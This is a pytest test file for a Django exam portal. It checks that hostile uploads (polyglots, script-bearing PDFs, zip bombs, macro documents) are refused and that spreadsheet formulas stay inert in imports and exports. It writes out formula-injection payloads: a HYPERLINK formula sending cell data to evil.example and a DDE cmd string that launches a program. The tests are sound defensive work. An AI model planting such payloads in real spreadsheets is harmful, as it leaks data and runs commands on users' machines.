"""Hostile files at every upload point: each refused with a message that names the file and says what is wrong,
and nothing of it is kept (no row, no file on disk). Photos the portal re-encodes lose their payload instead."""

import csv
import dataclasses
import datetime as dt
import io
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation
from django.utils.datastructures import MultiValueDict
from openpyxl import load_workbook

from appeals import services as appeal_services
from appeals.forms import AppealForm
from appeals.models import Appeal, AppealAttachment, AppealMember
from appeals.tests.conftest import ALMATY, make_result
from attestation.core.uploads import validate_upload
from attestation.institutions.forms import StudentImportForm
from attestation.institutions.models import InstitutionAdmin, Student
from attestation.institutions.student_import import read_rows, students_import
from attestation.tests.factories import UserFactory, examined, valid_iin
from attestation.tests.security import hostile
from attestation.tests.security.hostile import MB, upload
from commissions.attendance import attendance_record
from commissions.grading import services as grading
from commissions.models import DocumentJob, Paper, Slot
from commissions.papers import services as paper_services
from commissions.papers import testca
from commissions.papers.xlsx import vedomost_xlsx
from exams import programmes
from exams import services as exam_services
from exams.admission import services as admission_services
from exams.admission.models import ThesisVersion
from exams.admission.tests.conftest import register
from exams.applications import transcripts
from exams.applications.forms import TranscriptImportForm
from exams.applications.models import TranscriptImport, TranscriptRow
from exams.forms import ProgrammeForm, QuestionImportForm, TicketImportForm
from exams.models import AnswerSheet, ExamProgramme, Question, Ticket
from exams.tests.conftest import admitted, make_tickets
from exams.ticket_import import read_tickets
from exams.xlsx import read_questions
from proctoring import services as proctoring_services
from proctoring.models import IdCopy

pytestmark = pytest.mark.django_db

# --- the upload points, each driven through the same form or service its view calls ---------------------------------


@dataclasses.dataclass
class Point:
    accepts: tuple[str, ...]
    submit: Callable  # (upload) -> None; raises ValidationError when refused
    count: Callable  # () -> tuple of row counts that must not move on a refusal
    reencodes: bool = False  # photos are decoded and re-encoded: a payload is dropped, not refused


def _form_refusal(form, field: str) -> None:
    if not form.is_valid():
        raise ValidationError(form.errors.get(field) or form.non_field_errors())


def _id_copy(world):
    return Point(
        ("jpg", "png", "pdf"),
        lambda u: proctoring_services.id_copy_upload(student=world.student, upload=u, actor=world.student.user),
        lambda: (IdCopy.objects.count(),),
        reencodes=True,
    )


def _answer_sheet(world):
    make_tickets(world)
    exam_settings = exam_services.exam_settings_for(world.commission)
    exam_settings.exam_format = "written"
    exam_settings.save()
    attempt = admitted(world)
    exam_services.ticket_draw(attempt=attempt, actor=world.student.user)
    return Point(
        ("jpg", "png", "pdf"),
        lambda u: exam_services.answer_sheet_upload(attempt=attempt, upload=u, actor=world.student.user),
        lambda: (AnswerSheet.objects.count(),),
        reencodes=True,
    )


def _appeal_attachment(world):
    def submit(u):
        form = AppealForm(data={"reasons": "Екінші сұрақ бағаланбады"}, files=MultiValueDict({"attachments": [u]}))
        _form_refusal(form, "attachments")
        raise AssertionError(f"accepted, would be filed by {appeal_services.appeal_file.__name__}")

    return Point(("pdf", "jpg", "png", "docx"), submit, lambda: (Appeal.objects.count(), AppealAttachment.objects.count()))


def _thesis(world):
    thesis = register(world.student, world.member, UserFactory(username="reviewer"))
    return Point(
        ("pdf", "docx"),
        lambda u: admission_services.thesis_version_upload(actor=world.student.user, thesis=thesis, upload=u),
        lambda: (ThesisVersion.objects.count(),),
    )


def _programme_file(world):
    def submit(u):
        form = ProgrammeForm(data={"title": "Кешенді емтихан"}, files={"file": u})
        _form_refusal(form, "file")
        programmes.programme_create(commission=world.commission, actor=world.head, **form.cleaned_data)

    return Point(("pdf", "docx"), submit, lambda: (ExamProgramme.objects.count(),))


def _student_import(world):
    def submit(u):
        form = StudentImportForm(files={"file": u})
        _form_refusal(form, "file")
        result = students_import(actor=world.head, institution=world.institution, rows=read_rows(u, form.kind))
        if not result.ok:
            raise ValidationError([message for _row, _column, message in result.errors])

    return Point(("xlsx", "csv"), submit, lambda: (Student.objects.count(), get_user_count()))


def _transcript_import(world):
    def submit(u):
        form = TranscriptImportForm(files={"file": u})
        _form_refusal(form, "file")
        result = transcripts.transcripts_import(
            actor=world.head, institution=world.institution, rows=transcripts.read_table(u, form.kind)
        )
        if not result.ok:
            raise ValidationError([message for _row, _column, message in result.errors])

    return Point(("xlsx", "csv"), submit, lambda: (TranscriptRow.objects.count(), TranscriptImport.objects.count()))


def _question_import(world):
    def submit(u):
        form = QuestionImportForm(files={"file": u})
        _form_refusal(form, "file")
        read_questions(u)

    return Point(("xlsx",), submit, lambda: (Question.objects.count(),))


def _ticket_import(world):
    def submit(u):
        form = TicketImportForm(files={"file": u})
        _form_refusal(form, "file")
        read_tickets(u, form.kind)

    return Point(("xlsx", "csv"), submit, lambda: (Ticket.objects.count(),))


def get_user_count() -> int:
    return get_user_model().objects.count()


POINTS = {
    "id_copy": _id_copy,
    "answer_sheet": _answer_sheet,
    "appeal_attachment": _appeal_attachment,
    "thesis": _thesis,
    "programme_file": _programme_file,
    "student_import": _student_import,
    "transcript_import": _transcript_import,
    "question_import": _question_import,
    "ticket_import": _ticket_import,
}
ACCEPTS = {
    "id_copy": ("jpg", "png", "pdf"),
    "answer_sheet": ("jpg", "png", "pdf"),
    "appeal_attachment": ("pdf", "jpg", "png", "docx"),
    "thesis": ("pdf", "docx"),
    "programme_file": ("pdf", "docx"),
    "student_import": ("xlsx", "csv"),
    "transcript_import": ("xlsx", "csv"),
    "question_import": ("xlsx",),
    "ticket_import": ("xlsx", "csv"),
}

# --- the hostile files: (what, extension it claims, bytes, words one of which the refusal must say) ------------------

NOT_IT = ("not really", "not a photo", "not a picture", "not a real", "not accepted", "web page", "not a Word")
CUT = ("damaged or cut off", "incomplete", "cut off")
CASES = [
    ("html_renamed_jpg", "jpg", lambda: hostile.HTML, NOT_IT),
    ("svg_renamed_png", "png", lambda: hostile.SVG, NOT_IT),
    ("gif_js_polyglot_as_jpg", "jpg", hostile.gif_js_polyglot, NOT_IT),
    ("jpeg_html_polyglot", "jpg", hostile.jpeg_html_polyglot, ("web page",)),
    ("pdf_html_polyglot", "pdf", hostile.pdf_html_polyglot, ("web page",)),
    ("pdf_html_after_first_kilobyte", "pdf", hostile.pdf_html_after_first_kilobyte, ("web page", "not a readable PDF")),
    ("real_pdf_with_html_appended", "pdf", hostile.real_pdf_with_html_appended, ("web page",)),
    ("pdf_with_javascript", "pdf", hostile.pdf_with_script, ("scripts",)),
    ("pdf_with_escaped_javascript", "pdf", hostile.pdf_with_hidden_script, ("scripts",)),
    ("pdf_with_launch_action", "pdf", hostile.pdf_with_launch, ("scripts",)),
    ("pdf_with_embedded_file", "pdf", hostile.pdf_with_embedded_file, ("scripts",)),
    ("truncated_jpeg", "jpg", hostile.truncated_jpeg, CUT),
    ("truncated_png", "png", hostile.truncated_png, CUT),
    ("html_renamed_pdf", "pdf", lambda: hostile.HTML, NOT_IT),
    ("empty_pdf", "pdf", lambda: b"", ("empty",)),
    ("zip_bomb_docx", "docx", lambda: hostile.zip_bomb("docx"), ("archive bomb",)),
    ("docx_with_macros", "docx", hostile.docx_with_macros, ("macros",)),
    ("plain_zip_as_docx", "docx", hostile.zip_named_docx, NOT_IT),
    ("truncated_docx", "docx", lambda: hostile.docx()[:60], CUT + NOT_IT),
    ("zip_bomb_xlsx", "xlsx", lambda: hostile.zip_bomb("xlsx"), ("archive bomb",)),
    ("html_renamed_xlsx", "xlsx", lambda: hostile.HTML, NOT_IT),
    ("truncated_xlsx", "xlsx", lambda: hostile.xlsx([["IIN"], ["1"]])[:300], CUT),
    ("utf16_csv", "csv", lambda: hostile.utf16_csv("IIN;Фамилия\n990101300123;Ким\n"), ("UTF-16",)),
    ("binary_csv", "csv", lambda: b"\x00\x01\x02binary\x00" * 10, ("UTF-16", "not a text file")),
    ("svg_renamed_gif", "gif", lambda: hostile.SVG, NOT_IT),
]


def _media_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _applicable():
    """Each point gets the hostile files of the kinds it takes, and an SVG renamed to a kind nobody takes."""
    for point, build in POINTS.items():
        for case in CASES:
            if case[1] in ACCEPTS[point] or case[1] == "gif":
                yield pytest.param(build, case, id=f"{point}-{case[0]}")


@pytest.mark.parametrize(("build", "case"), list(_applicable()))
def test_a_hostile_file_is_refused_by_name_and_nothing_is_kept(world, build, case):
    what, ext, data, words = case
    point = build(world)
    name = f"hostile-{what}.{ext}"
    before, files_before = point.count(), _media_files()
    if point.reencodes and what == "jpeg_html_polyglot":
        point.submit(upload(name, data()))  # decoded and re-encoded: the page inside is gone
        stored = (IdCopy.objects.last() or AnswerSheet.objects.last()).file.read()
        assert b"<script" not in stored.lower() and b"<html" not in stored.lower()
        return
    with pytest.raises(ValidationError) as refused:
        point.submit(upload(name, data()))
    message = " ".join(refused.value.messages)
    assert name in message or what == "empty_pdf", message  # Django's own "the submitted file is empty"
    assert any(word in message for word in words), message
    assert point.count() == before
    assert _media_files() == files_before


@pytest.mark.parametrize("point_name", list(POINTS))
def test_an_oversize_file_is_refused_on_its_size_before_it_is_read(world, point_name):
    point = POINTS[point_name](world)
    before = point.count()
    with pytest.raises(ValidationError) as refused:
        point.submit(hostile.claimed_size(f"big.{point.accepts[0]}", 200 * MB))
    assert "limit" in " ".join(refused.value.messages)
    assert point.count() == before


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_a_zip_bomb_is_judged_from_its_directory_without_being_unpacked(kind):
    bomb = hostile.zip_bomb(kind)
    assert len(bomb) < 2 * MB
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError, match="archive bomb"):
            validate_upload(upload(f"bomb.{kind}", bomb), allowed=(kind,), max_bytes=10 * MB)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MB, f"validating the bomb allocated {peak / MB:.0f} MB"


def test_honest_files_still_pass_every_check():
    for name, data, allowed in [
        ("scan.jpg", hostile.image("JPEG"), ("jpg",)),
        ("scan.png", hostile.image("PNG"), ("png",)),
        ("doc.pdf", hostile.PDF, ("pdf",)),
        ("thesis.docx", hostile.docx(), ("docx",)),
        ("list.xlsx", hostile.xlsx([["IIN"], ["990101300123"]]), ("xlsx",)),
        ("list.csv", "ИИН;Фамилия\n990101300123;Касымов\n".encode("cp1251"), ("csv",)),
    ]:
        assert validate_upload(upload(name, data), allowed=allowed, max_bytes=MB) == allowed[0]


# --- through the pages: the refusal is shown and the counts stay ----------------------------------------------------


@pytest.fixture
def registrar(client, world):
    admin = UserFactory(username="inst-admin")
    InstitutionAdmin.objects.create(institution=world.institution, user=admin)
    client.force_login(admin)
    return admin


@pytest.mark.parametrize(
    ("url_name", "name", "data"),
    [
        ("institutions:import_students", "students.xlsx", lambda: hostile.zip_bomb("xlsx")),
        ("institutions:import_students", "students.csv", lambda: hostile.utf16_csv("ЖСН;Тегі\n990101300123;Ким\n")),
        ("applications:import", "scores.xlsx", lambda: hostile.zip_bomb("xlsx")),
        ("applications:import", "scores.csv", lambda: hostile.utf16_csv("IIN;Points\n990101300123;90\n")),
    ],
)
def test_an_import_page_shows_the_refusal_and_writes_nothing(client, world, registrar, url_name, name, data):
    counts = (Student.objects.count(), TranscriptRow.objects.count(), TranscriptImport.objects.count())
    response = client.post(reverse(url_name, args=[world.institution.pk]), {"file": upload(name, data())})
    assert response.status_code == 400
    assert name in response.content.decode()
    assert (Student.objects.count(), TranscriptRow.objects.count(), TranscriptImport.objects.count()) == counts


def test_the_id_copy_page_refuses_a_renamed_page_and_keeps_nothing(client, world):
    client.force_login(world.student.user)
    response = client.post(reverse("proctoring:id_copy"), {"file": upload("passport.jpg", hostile.HTML)}, follow=True)
    assert "passport.jpg" in response.content.decode()
    assert not IdCopy.objects.exists() and not _media_files()


# --- formulas: a formula cell is never evaluated, a formula-looking text stays text in our exports -----------------

HEADER = ["ЖСН", "Тегі", "Аты", "Фамилия", "Имя", "Топ", "Оқу тілі"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_xlsx_formula_cell_is_not_imported_as_a_value(world, formula):
    point = _student_import(world)
    before = point.count()
    rows = [HEADER, [valid_iin(), formula, "Әлібек", "Касымов", "Алибек", world.group.name, "kk"]]
    with pytest.raises(ValidationError, match="empty"):
        point.submit(upload("students.xlsx", hostile.xlsx(rows)))
    assert point.count() == before


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_text_is_stored_inert_and_exported_as_text(world, formula):
    iin = valid_iin()
    text = (
        ";".join(HEADER)
        + "\n"
        + ";".join([iin, formula.replace(";", ","), "Әлібек", "Касымов", "Алибек", world.group.name, "kk"])
        + "\n"
    )
    _student_import(world).submit(upload("students.csv", text.encode("utf-8")))
    student = Student.objects.get(iin=iin)
    assert student.last_name_kk == formula.replace(";", ",")
    world.student.last_name_kk = student.last_name_kk
    world.student.save()
    with translation.override("kk"):
        sheet = load_workbook(io.BytesIO(vedomost_xlsx(sitting=world.sitting))).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells, "the formula-looking name is in the export"
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]


# --- the appeal page takes an honest attachment and refuses a hostile one, whole -------------------------------------


def _announced_result(world):

    people = [UserFactory(username=f"appeal{i}") for i in range(3)]
    appeal_services.appeal_commission_create(
        actor=world.head,
        institution=world.institution,
        academic_year=2019,
        name_kk="Апелляциялық комиссия",
        name_ru="Апелляционная комиссия",
        order_number="45-А",
        order_date=dt.date(2020, 4, 20),
        commissions=[world.commission],
        members=[(people[0], AppealMember.Role.CHAIR), *[(p, AppealMember.Role.MEMBER) for p in people[1:]]],
    )
    return make_result(Slot.objects.get(sitting=world.sitting, student=world.student))


@pytest.mark.parametrize(
    ("name", "data", "kept"),
    [
        ("evidence.pdf", lambda: hostile.PDF, 1),
        ("evidence.jpg", hostile.jpeg_html_polyglot, 0),
    ],
)
def test_the_appeal_page_keeps_an_honest_attachment_and_refuses_a_polyglot_whole(client, world, name, data, kept):

    result = _announced_result(world)
    client.force_login(world.student.user)
    with time_machine.travel(dt.datetime(2020, 5, 6, 16, 0, tzinfo=ALMATY), tick=False):
        response = client.post(
            reverse("appeals:file", args=[result.pk]),
            {"reasons": "Екінші сұрақ бағаланбады", "attachments": [upload(name, data())]},
        )
    assert Appeal.objects.count() == kept and AppealAttachment.objects.count() == kept
    if not kept:
        assert response.status_code == 400 and name in response.content.decode()


def test_a_formula_looking_signer_name_stays_text_in_the_portfolio_index(world):

    world.secretary.last_name = '=HYPERLINK("http://evil.example","Click")'  # signs first: the cell starts with it
    world.secretary.save()
    attendance_record(
        actor=world.secretary, sitting=world.sitting, present_ids=world.commission.memberships.values_list("pk", flat=True)
    )
    examined(world.sitting)
    slot = Slot.objects.get(sitting=world.sitting, student=world.student)
    grading.grade_submit(actor=world.chair, slot=slot, points="90")
    grading.grade_submit(actor=world.member, slot=slot, points="86")
    grading.result_decide(actor=world.chair, slot=slot)
    protocol = paper_services.paper_render(actor=world.secretary, kind=Paper.Kind.PROTOCOL, sitting=world.sitting, slot=slot)
    testca.sign_as(actor=world.secretary, paper=protocol)
    testca.sign_as(actor=world.chair, paper=protocol)
    job = paper_services.job_create(actor=world.secretary, commission=world.commission, kind=DocumentJob.Kind.PORTFOLIO)
    paper_services.job_run(job_pk=job.pk)
    job.refresh_from_db()
    with job.output.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("index.csv").decode())))
    signers = [row[3] for row in rows[1:] if row[3]]
    assert signers and all(s.startswith("'=") for s in signers), signers
